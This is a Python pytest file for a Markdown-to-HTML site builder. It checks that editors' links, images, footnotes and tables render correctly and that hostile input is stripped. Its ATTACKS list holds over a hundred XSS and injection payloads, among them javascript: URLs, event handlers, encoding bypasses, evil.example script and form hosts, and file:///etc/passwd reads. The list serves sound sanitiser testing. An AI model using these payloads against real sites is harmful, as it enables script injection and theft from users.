"""A body as HTML: what editors need comes through, and what is hostile never does."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from world import compiled, draw, entry

MAP = {"om/karta.png": b"x", "rapporter/siffror.csv": "a,b"}


def html_of(tmp_path: Path, body: str, **others: str) -> str:
    """The HTML of om/a.md; problems are not looked at."""
    files = {"om/a.md": entry("page", body=body), "om/b.md": entry("page", body="## Så gör du")}
    verdict = compiled(draw(tmp_path, {**files, **MAP, **others}))
    body = verdict.library.bodies.get("om/a")
    return body.html if body else ""


def good(tmp_path: Path, body: str) -> str:
    html = html_of(tmp_path, body)
    assert compiled(tmp_path).problems == ()
    return html


class Parsed(HTMLParser):
    """Every tag with its attributes, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def first(self, wanted: str) -> dict[str, str]:
        return next(attributes for tag, attributes in self.tags if tag == wanted)

    def all(self, wanted: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.tags if tag == wanted]


# What editors need


def test_link_to_an_entry_is_relative_to_its_own_page(tmp_path: Path) -> None:
    (tmp_path / "rapporter").mkdir(parents=True)
    draw(tmp_path, {"rapporter/r.md": entry("report", body="## Del\n\nText.")})
    html = good(tmp_path, "[en rapport](../rapporter/r.md#del) och [granne](b.md)")
    assert [link["href"] for link in Parsed(html).all("a")] == [
        "../../rapporter/r/#del",
        "../../om/b/",
    ]


def test_link_to_a_file_leads_to_the_file(tmp_path: Path) -> None:
    html = good(tmp_path, "[siffror](../rapporter/siffror.csv)")
    assert Parsed(html).first("a")["href"] == "../../rapporter/siffror.csv"


def test_link_to_the_start_page_leads_to_the_root(tmp_path: Path) -> None:
    draw(tmp_path, {"index.md": entry("page")})
    assert Parsed(good(tmp_path, "[start](../index.md)")).first("a")["href"] == "../../"


def test_link_in_angle_brackets_and_by_reference(tmp_path: Path) -> None:
    html = good(tmp_path, "<https://www.scb.se/> och [b][1]\n\n[1]: b.md")
    assert [link["href"] for link in Parsed(html).all("a")] == [
        "https://www.scb.se/",
        "../../om/b/",
    ]


def test_anchor_on_the_same_page_and_on_another(tmp_path: Path) -> None:
    body = "[ner](#och-sa-vidare) [dit](b.md#sa-gor-du)\n\n## Och så vidare\n\nText."
    html = good(tmp_path, body)
    assert Parsed(html).first("h2")["id"] == "och-sa-vidare"


def test_headings_are_collected_with_their_levels(tmp_path: Path) -> None:
    draw(tmp_path, {"om/a.md": entry("page", body="## Två\n\n### Tre & mer\n\n## Två\n\nText.")})
    headings = compiled(tmp_path).library.bodies["om/a"].headings
    assert [(each.level, each.anchor) for each in headings] == [
        (2, "tva"),
        (3, "tre-mer"),
        (2, "tva_1"),
    ]


def test_mentions_are_the_entries_linked_to(tmp_path: Path) -> None:
    draw(tmp_path, {"om/a.md": entry("page", body="[b](b.md) [b igen](b.md) [a](a.md)")})
    draw(tmp_path, {"om/b.md": entry("page")})
    assert set(compiled(tmp_path).library.bodies["om/a"].mentions) == {"om/a", "om/b"}


def test_image_has_its_text_and_leads_to_the_file(tmp_path: Path) -> None:
    image = Parsed(good(tmp_path, '![En karta](karta.png "Titel")')).first("img")
    assert (image["src"], image["alt"]) == ("../../om/karta.png", "En karta")


def test_footnotes_lead_there_and_back(tmp_path: Path) -> None:
    html = good(tmp_path, "Text.[^1]\n\n[^1]: En not.")
    ids = set(re.findall(r'id="([^"]+)"', html))
    anchors = {link["href"].removeprefix("#") for link in Parsed(html).all("a")}
    assert anchors == ids == {"fn:1", "fnref:1"}


def test_table_has_header_cells_and_can_be_reached(tmp_path: Path) -> None:
    html = good(tmp_path, "Ort | Antal\n--- | ---:\nMalmö | 12")
    parsed = Parsed(html)
    assert [cell["scope"] for cell in parsed.all("th")] == ["col", "col"]
    assert parsed.all("td")[1]["class"] == "right"
    assert {"role", "tabindex"} <= set(parsed.first("div"))


@pytest.mark.parametrize(
    ("body", "tags"),
    [
        ('!!! note "Tänk på"\n    En ruta.', {"div", "p"}),
        ("SCB räknar.\n\n*[SCB]: Statistiska centralbyrån", {"p", "abbr"}),
        ("Ord\n:   En förklaring.", {"dl", "dt", "dd", "p"}),
        ("> Ett citat.", {"blockquote", "p"}),
        ("1. ett\n2. två\n\n- tre", {"ol", "ul", "li"}),
        ("```python\nx < 1\n```", {"pre", "code"}),
        ("H<sub>2</sub>O, <kbd>Esc</kbd>, a<br>b, <del>c</del>", {"p", "sub", "kbd", "br", "del"}),
        ("<details><summary>Mer</summary>Text</details>", {"details", "summary"}),
    ],
)
def test_what_markdown_can_do_comes_through(body: str, tags: set[str], tmp_path: Path) -> None:
    assert {tag for tag, _ in Parsed(good(tmp_path, body)).tags} - {"p"} == tags - {"p"}


def test_code_is_shown_and_not_run(tmp_path: Path) -> None:
    code = "<script>alert(1)</script> [x](nej.md)"
    html = good(tmp_path, f"`{code}`\n\n```\n{code}\n```")
    assert Parsed(html).text.count(code) == 2
    assert "<script" not in html


def test_addresses_of_people_are_not_made_into_links(tmp_path: Path) -> None:
    assert Parsed(html_of(tmp_path, "<eva@example.org>")).all("a") == []


# What is hostile

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    '<img src="karta.png" alt="x" onload="alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<iframe src=https://evil.example/></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<form action=https://evil.example/><input name=x><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://a.se" onclick="alert(1)">x</a>',
    '<span style="background:url(https://evil.example/)">x</span>',
    '<span onmouseover="alert(1)">x</span>',
    "<span onmouseover=alert(1)//>x",
    '<em lang="sv" onclick="alert(1)">x</em>',
    '<abbr title="x" onclick="alert(1)">x</abbr>',
    "<details><img src=x onerror=alert(1)></details>",
    "<details><summary><svg/onload=alert(1)></summary></details>",
    "<pre><code><img src=x onerror=alert(1)></code></pre>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://a.se" onclick="alert(1))',
    "[x](https://a.se 'x\" onclick=\"alert(1)')",
    '[x](https://a.se "x&quot; onclick=&quot;alert(1)")',
    '[x](https://a.se "<script>alert(1)</script>")',
    "[<img src=x onerror=alert(1)>](https://a.se)",
    "[x]: javascript:alert(1)\n\n[x] [y][x]",
    '[x]: https://a.se "x\\" onclick=alert(1)"\n\n[x]',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](karta.png)',
    '![x](karta.png" onerror="alert(1))',
    "![<script>alert(1)</script>](karta.png)",
    "![x](https://evil.example/spy.gif)",
    "<javascript:alert(1)>",
    '<https://a.se/"onclick=alert(1)>',
    "<https://a.se/<script>alert(1)</script>>",
    "## x <script>alert(1)</script>",
    '## x" onclick="alert(1)',
    "a | b\n-- | --\n<script>alert(1)</script> | [x](javascript:alert(1))",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "x\n: <img src=x onerror=alert(1)>",
    '*[X]: " onmouseover="alert(1)\n\nX',
    "*[X]: <script>alert(1)</script>\n\nX",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! x" onclick="alert(1)\n    x',
    '```"><script>alert(1)</script>\nx\n```',
    '``` { .x onclick="alert(1)" }\nx\n```',
    "`<script>`<script>alert(1)</script>",
    "x{: onclick=alert(1)}",
    "\u0002wzxhzdk:0\u0003<script>alert(1)</script>",
    "klzzwxh:0000 <b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x",
    "<x onclick=alert(1)>x</x>",
    "<p onclick=alert(1)>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<h1 id=x>x</h1>",
    '<a id="main" name="cookie">x</a>',
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
]

TAGS = set(
    "p h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre code table thead tbody tr th td em strong a"
    " img abbr sup sub br hr div cite del details i ins kbd mark q s small span summary".split()
)
ATTRIBUTES = set(
    "href title rel src alt start id scope class lang role aria-label tabindex".split()
)


def test_there_are_attacks_enough() -> None:
    assert len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_html_never_comes_out(attack: str, tmp_path: Path) -> None:
    html = html_of(tmp_path, attack)
    for tag, attributes in Parsed(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        for name in ("href", "src"):
            address = attributes.get(name, "")
            assert re.match(r"https?://|mailto:|#|[\w.][\w.#/-]*$|$", address), address
        if tag == "img":
            assert "//" not in attributes.get("src", "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_removed_is_told_of(attack: str, tmp_path: Path) -> None:
    """What comes out, if nothing was told, holds every word that was written."""
    html = html_of(tmp_path, f"{attack}\n\nsista stycket")
    # What stands after ``` names a language; no one sees it, code or not.
    if compiled(tmp_path).problems or attack.startswith("```"):
        return
    assert "sista stycket" in Parsed(html).text
    assert ("alert" in attack) <= ("alert" in html)
